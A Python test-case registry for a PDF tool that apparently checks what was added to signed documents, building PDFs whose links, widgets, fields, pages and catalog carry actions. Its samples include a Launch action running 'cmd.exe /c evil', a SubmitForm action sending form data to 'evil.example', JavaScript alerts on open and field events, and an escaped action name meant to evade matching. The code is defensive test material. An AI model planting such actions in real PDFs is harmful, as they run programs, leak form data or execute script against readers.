"""Actions in new annotations, and in what was signed (ISO 32000-2, 12.6)."""

from .contract import AMOUNT, FIRST, LINK, OUTLINE, PAGES, SECOND, SQUARE, WITNESS, stream
from .material import COVER, NEXT, SCRIPT, shown
from .registry import Extent, register
from .signed import NEW

URI = b"<< /S /URI /URI (https://evil.example) >>"
ACTIONS = {
    "JavaScript": SCRIPT, "JavaScript in a stream": b"<< /S /JavaScript /JS 210 0 R >>", "Launch": b"<< /S /Launch /F (evil.exe) >>",
    "Launch of a program": b"<< /S /Launch /Win << /F (cmd.exe) /P (/c evil) >> >>", "URI": URI,
    "SubmitForm": b"<< /S /SubmitForm /F (https://evil.example) /Flags 4 >>",
    "ImportData": b"<< /S /ImportData /F (evil.fdf) >>", "ResetForm": b"<< /S /ResetForm >>", "Hide": b"<< /S /Hide /T (amount) >>",
    "Named": b"<< /S /Named /N /Print >>", "GoTo": b"<< /S /GoTo /D [5 0 R /Fit] >>", "GoToR": b"<< /S /GoToR /F (evil.pdf) /D [0 /Fit] >>",
    "GoToE": b"<< /S /GoToE /T << /R /C /N (terms) >> /D [0 /Fit] >>", "SetOCGState": b"<< /S /SetOCGState /State [/ON 74 0 R] >>",
    "Rendition": b"<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>", "Movie": b"<< /S /Movie >>",
    "Sound": b"<< /S /Sound /Sound 210 0 R >>",
    "RichMediaExecute": b"<< /S /RichMediaExecute /CMD << /C (x) >> >>", "Trans": b"<< /S /Trans /Trans << /S /Fade >> >>",
    "a chain": b"<< /S /Named /N /NextPage /Next %s >>" % SCRIPT,
    "a name with an escape": b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>",
    "an unknown kind": b"<< /S /Mine /JS (app.alert\\(1\\)) >>", "an action elsewhere": b"211 0 R",
}
OBJECTS = {NEXT: COVER, NEW + 10: stream(b"app.alert(1)"), NEW + 11: SCRIPT}
register("actions", Extent.ANNOTATION, {
    f"link with {name}": lambda it, action=action: it.update(it.annotated(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 400 400] /F 4 /Border [0 0 0] /A %s >>" % action, OBJECTS))
    for name, action in ACTIONS.items()
} | {
    f"annotation with an action on {event}": lambda it, event=event: it.update(it.annotated(
        b"<< /Type /Annot /Subtype /Screen /Rect [0 0 400 400] /F 4 /P 3 0 R /AA << /%s %s >> >>" % (event.encode(), SCRIPT), OBJECTS))
    for event in ("E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI")
} | {
    "annotation without a size with an action": lambda it: it.update(it.annotated(
        b"<< /Type /Annot /Subtype /Screen /Rect [0 0 0 0] /F 2 /AA << /PO %s >> >>" % SCRIPT)),
    "widget with an action": lambda it: it.update(it.annotated(shown(b"Widget", b"/FT /Btn /Ff 65536 /T (b) /A %s" % SCRIPT), OBJECTS)),
    "popup with an action": lambda it: it.update(it.annotated(shown(b"Popup", b"/Open true /A %s" % SCRIPT), OBJECTS)),
    "file that is attached": lambda it: it.update(it.annotated(shown(b"FileAttachment", b"/FS 63 0 R"), OBJECTS)),
    "film": lambda it: it.update(it.annotated(shown(b"RichMedia", b"/RichMediaContent << >>"), OBJECTS)),
    "page after an action": lambda it: it.update(it.annotated(shown(b"Link", b"/Dest [5 0 R /Fit] /PA %s" % URI), OBJECTS)),
})
EVENTS = {"field": (AMOUNT, ("K", "F", "V", "C", "E", "X", "D", "U", "Fo", "Bl")), "empty signature field": (WITNESS, ("V", "PO", "Fo")),
          "page": (FIRST, ("O", "C")), "second page": (SECOND, ("O", "C"))}
register("actions", Extent.OTHER, {
    f"{name} with an action on {event}": lambda it, number=number, event=event: it.changed(number, AA=b"<< /%s %s >>" % (event.encode(), SCRIPT))
    for name, (number, events) in EVENTS.items() for event in events
} | {
    f"catalog with an action on {event}": lambda it, event=event: it.cataloged(AA=b"<< /%s %s >>" % (event.encode(), SCRIPT))
    for event in ("WC", "WS", "DS", "WP", "DP")
} | {
    f"opening with {name}": lambda it, action=action: it.cataloged(OBJECTS, OpenAction=action) for name, action in ACTIONS.items()
} | {
    "opening at another page": lambda it: it.cataloged(OpenAction=b"[5 0 R /Fit]"),
    "outline with an action": lambda it: it.changed(OUTLINE, A=SCRIPT, Dest=None),
    "outline with both": lambda it: it.changed(OUTLINE, A=URI),
    "field with an action": lambda it: it.changed(AMOUNT, A=SCRIPT),
    "field with an action while it is filled in": lambda it: it.changed(AMOUNT, {NEW: COVER}, V=b"(999)", A=SCRIPT, AP=b"<< /N 200 0 R >>"),
    "root of pages with an action": lambda it: it.changed(PAGES, AA=b"<< /O %s >>" % SCRIPT),
})
register("actions", Extent.ANNOTATION, {
    "link leads somewhere else": lambda it: it.changed(LINK, A=URI),
    "link has a script": lambda it: it.changed(LINK, A=SCRIPT),
    "link is larger": lambda it: it.changed(LINK, Rect=b"[0 0 400 400]"),
    "square has an action": lambda it: it.changed(SQUARE, A=SCRIPT),
    "square has an action on opening": lambda it: it.changed(SQUARE, AA=b"<< /PO %s >>" % SCRIPT),
})
